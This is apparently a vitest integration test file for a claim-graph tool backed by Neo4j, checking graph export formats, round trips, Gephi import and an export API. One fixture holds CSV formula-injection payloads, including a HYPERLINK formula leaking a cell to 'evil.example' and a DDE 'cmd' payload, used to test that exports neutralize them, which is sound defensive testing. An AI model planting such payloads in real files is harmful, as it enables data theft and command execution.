/**
 * The formats against the real Neo4j: exports keep a claim's paraphrase and
 * the verification of its quote in every format (set on the mini fixture's
 * claims by a write query, as server/provenance stores them); GEXF, GraphML
 * and the native export read back as the same graph; CSV exports are safe
 * to open in a spreadsheet (raw on request) and read back as they were; a
 * Gephi file imports with the status the user states; the API takes a view
 * and refuses it where it means nothing; the CLI names --status.
 */
import { spawn } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { parse as parseCsv } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { MultiDirectedGraph, MultiGraph } from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { parse as parseGraphml } from 'graphology-graphml';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { writeExport } from '../../server/export/index.ts';
import { importDataset } from '../../server/import/index.ts';
import { ExportRequest } from '../../server/kernel/contract.ts';
import type { Deps } from '../../server/kernel/deps.ts';
import { createLogger } from '../../server/kernel/log.ts';
import { closeTestDriver, query, resetDatabase, testConfig, testDriver, testNeo4j } from '../helpers/neo4j.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';

const FIXTURE = 'tests/fixtures/mini';
let dir: string;

type Row = Record<string, unknown>;

beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'claimgraph-formats-it-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
  await closeTestDriver();
});

function deps(): Deps {
  return { driver: testDriver(), database: testNeo4j().database, config: testConfig(), log: createLogger('silent') };
}

async function load(target: string, opts: Parameters<typeof importDataset>[2] = {}) {
  return importDataset(testDriver(), target, { database: testNeo4j().database, ...opts });
}

async function write(cypher: string, params: Row = {}): Promise<void> {
  await testDriver().executeQuery(cypher, params, { database: testNeo4j().database });
}

async function exported(format: string, extra: Row = {}): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await writeExport(deps(), ExportRequest.parse({ format, selection: { type: 'all' }, ...extra }), out);
  out.end();
  return Buffer.concat(chunks);
}

/** What a round trip must keep: entities, sources and claims with their evidence. */
async function graph(): Promise<{ entities: Row[]; sources: Row[]; claims: Row[] }> {
  const entities = await query<Row>('MATCH (n:Entity) WHERE NOT n:Source RETURN n.id AS id, n.kind AS kind, n.name AS name, n.aliases AS aliases, n.description AS description ORDER BY id');
  const sources = await query<Row>('MATCH (n:Source) RETURN n.id AS id, n.name AS name, n.sourceKind AS sourceKind, n.url AS url, n.authors AS authors ORDER BY id');
  const claims = await query<Row>(
    'MATCH (a)-[r]->(b) RETURN r.id AS id, type(r) AS type, a.id AS from, b.id AS to, r.status AS status, r.quote AS quote, r.sourceId AS sourceId, r.paraphrase AS paraphrase, r.anchor AS anchor, r.amount AS amount, r.date AS date ORDER BY id',
  );
  return { entities, sources, claims };
}

/** The mini fixture, with a paraphrase and the verification of two quotes as server/provenance stores them. */
async function fixtureWithVerification(): Promise<void> {
  await resetDatabase();
  await load(FIXTURE);
  await write(
    "MATCH ()-[r {id: 'c-leads'}]->() SET r.verification = 'verified', r.verificationScore = 1.0, r.quoteExact = r.quote, r.quotePrefix = 'Since then, ', r.quoteSuffix = ' The movement', r.quoteStart = 120, r.quoteEnd = 162",
  );
  await write(
    "MATCH ()-[r {id: 'c-front'}]->() SET r.paraphrase = true, r.anchor = 'the Friends Association is, in effect, a front', r.verification = 'paraphrase-anchored', r.verificationScore = 0.97",
  );
}

describe('exports keep the paraphrase and the verification', () => {
  beforeAll(fixtureWithVerification);

  it('graphology JSON, GEXF and GraphML carry them as edge attributes', async () => {
    const json = MultiDirectedGraph.from(JSON.parse((await exported('graphology')).toString('utf8')));
    const gexf = parseGexf(MultiDirectedGraph, (await exported('gexf')).toString('utf8'));
    const graphml = parseGraphml(MultiDirectedGraph, (await exported('graphml')).toString('utf8'));
    for (const g of [json, gexf, graphml]) {
      expect(g.getEdgeAttributes('c-leads')).toMatchObject({ verification: 'verified', verificationScore: 1, quoteExact: 'Ada Quill has led the movement since 2003.', quotePrefix: 'Since then, ', quoteStart: 120, quoteEnd: 162 });
      expect(g.getEdgeAttributes('c-front')).toMatchObject({ paraphrase: true, anchor: 'the Friends Association is, in effect, a front', verification: 'paraphrase-anchored', verificationScore: 0.97 });
    }
  });

  it('CSV has their columns', async () => {
    const files = unzipSync(new Uint8Array(await exported('csv')));
    const edges = parseCsv(strFromU8(files['edges.csv']!), { columns: true }) as Record<string, string>[];
    expect(edges.find((e) => e.id === 'c-leads')).toMatchObject({ verification: 'verified', verificationScore: '1', quoteStart: '120', quotePrefix: 'Since then, ' });
    expect(edges.find((e) => e.id === 'c-front')).toMatchObject({ paraphrase: 'true', anchor: 'the Friends Association is, in effect, a front', verification: 'paraphrase-anchored' });
    expect(Object.keys(edges[0]!).slice(0, 7)).toEqual(['id', 'source', 'type', 'target', 'status', 'sourceId', 'quote']);
  });

  it('the Cypher script sets them; FtM keeps them in its claimgraph object; Markdown marks the paraphrase and the check', async () => {
    const script = (await exported('cypher')).toString('utf8');
    const leads = script.split('\n').find((l) => l.includes("{id: 'c-leads'}]->(b)"))!;
    for (const part of ["verification: 'verified'", 'verificationScore: 1.0', 'quoteStart: 120', "quotePrefix: 'Since then, '"]) expect(leads).toContain(part);
    const ftm = (await exported('ftm')).toString('utf8').trim().split('\n').map((l) => JSON.parse(l) as Row);
    expect(ftm.find((e) => e.id === 'claim-c-front')?.claimgraph).toEqual({ paraphrase: true, anchor: 'the Friends Association is, in effect, a front', verification: 'paraphrase-anchored', verificationScore: 0.97 });
    expect(ftm.find((e) => e.id === 'claim-c-leads')?.claimgraph).toMatchObject({ verification: 'verified', quoteExact: 'Ada Quill has led the movement since 2003.' });
    // A claim imported without its source's document: not checked, and the export says so.
    expect(ftm.find((e) => e.id === 'claim-c-arm')?.claimgraph).toEqual({ verification: 'no-document' });
    const md = (await exported('markdown')).toString('utf8');
    expect(md).toContain('  > *(paraphrase)* The Friends Association acts as a front for the movement.\n  - Paraphrase of: “the Friends Association is, in effect, a front”\n  - paraphrase; the passage it paraphrases was found in the source’s document\n');
    expect(md).toContain('  > Ada Quill has led the movement since 2003.\n  - quote verified: found word for word in the source’s document\n');
  });

  it('the FtM and native exports read back with the paraphrase still marked, the verification left to the import (no document here: not checked)', async () => {
    for (const format of ['ftm', 'native'] as const) {
      await fixtureWithVerification();
      const file = path.join(dir, `para.${format === 'ftm' ? 'ftm.json' : 'jsonl'}`);
      await writeFile(file, await exported(format));
      await resetDatabase();
      await load(file, { name: `para-${format}` });
      const [front] = await query<Row>("MATCH ()-[r {id: 'c-front'}]->() RETURN r.paraphrase AS paraphrase, r.anchor AS anchor, r.verification AS verification");
      expect(front, format).toEqual({ paraphrase: true, anchor: 'the Friends Association is, in effect, a front', verification: 'no-document' });
    }
  });
});

describe('round trips through GEXF, GraphML and the native format', () => {
  beforeEach(fixtureWithVerification);

  it.each([
    ['gexf', 'claimgraph-all.gexf', { view: { nodes: { 'org-hub': { x: 1, y: 2, size: 5, color: '#123456' } } } }],
    ['graphml', 'claimgraph-all.graphml', { view: { nodes: { 'org-hub': { x: 1, y: 2 } } } }],
    ['native', 'claimgraph-all.jsonl', {}],
  ] as const)('%s: export, empty the database, import without --status: the same graph', async (format, name, extra) => {
    const before = await graph();
    expect(before.claims).toHaveLength(31);
    const file = path.join(dir, name);
    await writeFile(file, await exported(format, extra));
    await resetDatabase();
    const s = await load(file, { name: `mini-${format}` });
    expect(s.counts).toMatchObject({ entities: 19, sources: 4, claims: 31 });
    expect(await graph()).toEqual(before);
  });
});

describe('CSV exports safe to open in a spreadsheet', () => {
  const HOSTILE = { name: '=HYPERLINK("http://evil.example/?leak="&A1,"Carla")', description: "=cmd|' /C calc'!A0", quote: '@SUM(A1:A9) said the speaker', role: '-2+3' };

  beforeAll(async () => {
    await resetDatabase();
    await load(FIXTURE);
    await write("MATCH (n {id: 'person-speaker'}) SET n.name = $name, n.description = $description", HOSTILE);
    await write("MATCH ()-[r {id: 'c-paid-1'}]->() SET r.quote = $quote, r.role = $role, r.delta = -2", HOSTILE);
  });

  async function tables(extra: Row = {}): Promise<{ raw: Record<string, string>; nodes: Row[]; edges: Row[] }> {
    const files = unzipSync(new Uint8Array(await exported('csv', extra)));
    const raw = Object.fromEntries(Object.entries(files).map(([k, v]) => [k, strFromU8(v)]));
    return { raw, nodes: parseCsv(raw['nodes.csv']!, { columns: true }) as Row[], edges: parseCsv(raw['edges.csv']!, { columns: true }) as Row[] };
  }

  it('prefixes every text cell a spreadsheet would run; numbers stay numbers', async () => {
    const { nodes, edges } = await tables();
    expect(nodes.find((n) => n.id === 'person-speaker')).toMatchObject({ name: `'${HOSTILE.name}`, description: `'${HOSTILE.description}` });
    expect(edges.find((e) => e.id === 'c-paid-1')).toMatchObject({ quote: `'${HOSTILE.quote}`, role: "'-2+3", delta: '-2', amount: '50000' });
  });

  it('raw: true writes them as they are', async () => {
    const { nodes, edges } = await tables({ raw: true });
    expect(nodes.find((n) => n.id === 'person-speaker')).toMatchObject({ name: HOSTILE.name, description: HOSTILE.description });
    expect(edges.find((e) => e.id === 'c-paid-1')).toMatchObject({ quote: HOSTILE.quote, role: '-2+3' });
  });

  it('the neutralized ZIP imports back with the original values', async () => {
    const zip = path.join(dir, 'hostile.csv.zip');
    await writeFile(zip, await exported('csv'));
    await resetDatabase();
    await load(zip, { name: 'hostile' });
    const [n] = await query<Row>("MATCH (n {id: 'person-speaker'}) RETURN n.name AS name, n.description AS description");
    expect(n).toEqual({ name: HOSTILE.name, description: HOSTILE.description });
    const [c] = await query<Row>("MATCH ()-[r {id: 'c-paid-1'}]->() RETURN r.quote AS quote, r.role AS role");
    expect(c).toEqual({ quote: HOSTILE.quote, role: HOSTILE.role });
  });
});

const GEPHI = `<?xml version="1.0" encoding="UTF-8"?>
<gexf xmlns="http://gexf.net/1.3" xmlns:viz="http://gexf.net/1.3/viz" version="1.3">
  <meta><creator>Gephi 0.10.1</creator></meta>
  <graph defaultedgetype="directed">
    <attributes class="node"><attribute id="0" title="kind" type="string"/></attributes>
    <nodes>
      <node id="0" label="Ann"><attvalues><attvalue for="0" value="person"/></attvalues><viz:position x="1.0" y="2.0"/></node>
      <node id="1" label="Acme"><attvalues><attvalue for="0" value="organization"/></attvalues></node>
    </nodes>
    <edges><edge id="0" source="0" target="1" label="EMPLOYED_BY"/></edges>
  </graph>
</gexf>
`;

describe('a Gephi file', () => {
  it('imports with --status: entities, a source for the file, claims citing it', async () => {
    await resetDatabase();
    const file = path.join(dir, 'staff.gexf');
    await writeFile(file, GEPHI);
    const s = await load(file, { options: { status: 'alleged' } });
    expect(s.counts).toMatchObject({ entities: 2, sources: 1, claims: 1 });
    const [c] = await query<Row>(
      'MATCH (a)-[r]->(b) MATCH (src:Source {id: r.sourceId}) RETURN a.name AS from, type(r) AS type, b.name AS to, r.status AS status, r.quote AS quote, src.name AS source, src.sourceKind AS kind',
    );
    expect(c).toEqual({ from: 'Ann', type: 'EMPLOYED_BY', to: 'Acme', status: 'alleged', quote: '<edge id="0" source="0" target="1" label="EMPLOYED_BY"/>', source: 'staff.gexf', kind: 'dataset' });
  });

  it('the CLI refuses it without --status (usage, exit 2) and imports it with', async () => {
    const file = path.join(dir, 'staff-cli.gexf');
    await writeFile(file, GEPHI);
    const db = testNeo4j();
    const env: NodeJS.ProcessEnv = { ...process.env, NEO4J_URI: db.uri, NEO4J_USER: db.user, NEO4J_PASSWORD: db.password, ...(db.database ? { NEO4J_DATABASE: db.database } : {}) };
    const run = (args: string[]) =>
      new Promise<{ code: number | null; stderr: string }>((resolve, reject) => {
        const child = spawn(process.execPath, [path.resolve('bin/claimgraph.js'), ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
        let stderr = '';
        child.stderr.on('data', (b: Buffer) => (stderr += b.toString()));
        child.once('error', reject);
        child.once('close', (code) => resolve({ code, stderr }));
      });
    const refused = await run(['import', file, '--quiet']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/staff-cli\.gexf:10 edge "0" field "status": 1 of 1 edges have no claimgraph status: .*--status </);
    const ok = await run(['import', file, '--status', 'reported', '--kind', 'person', '--quiet']);
    expect(ok.code).toBe(0);
    const [c] = await query<Row>("MATCH ()-[r {id: 'staff-cli:0'}]->() RETURN r.status AS status");
    expect(c).toEqual({ status: 'reported' });
  }, 120_000);
});

describe('POST /api/export with a view', () => {
  let api: TestServer;
  beforeAll(async () => {
    await resetDatabase();
    await load(FIXTURE);
    api = await startTestServer();
  });
  afterAll(async () => {
    await api?.close();
  });
  const post = (body: unknown) => fetch(`${api.url}/api/export`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

  it('draws it in GEXF', async () => {
    const res = await post({ format: 'gexf', selection: { type: 'ids', ids: ['org-hub'] }, view: { nodes: { 'org-hub': { x: 3.5, y: -1, size: 8, color: '#ff8800' } } } });
    expect(res.status).toBe(200);
    const g = parseGexf(MultiGraph, await res.text());
    expect(g.getNodeAttributes('org-hub')).toMatchObject({ x: 3.5, y: -1, size: 8, color: 'rgb(255,136,0)' });
  });

  it('refuses a view for CSV, raw for GEXF, and a malformed view, with 400 naming the field', async () => {
    for (const [body, field] of [
      [{ format: 'csv', selection: { type: 'all' }, view: { nodes: {} } }, 'view'],
      [{ format: 'gexf', selection: { type: 'all' }, raw: true }, 'raw'],
      [{ format: 'gexf', selection: { type: 'all' }, view: { nodes: { a: { x: 'left', y: 0 } } } }, 'view.nodes.a.x'],
    ] as const) {
      const res = await post(body);
      expect(res.status).toBe(400);
      expect(JSON.stringify(await res.json())).toContain(field);
    }
  });
});
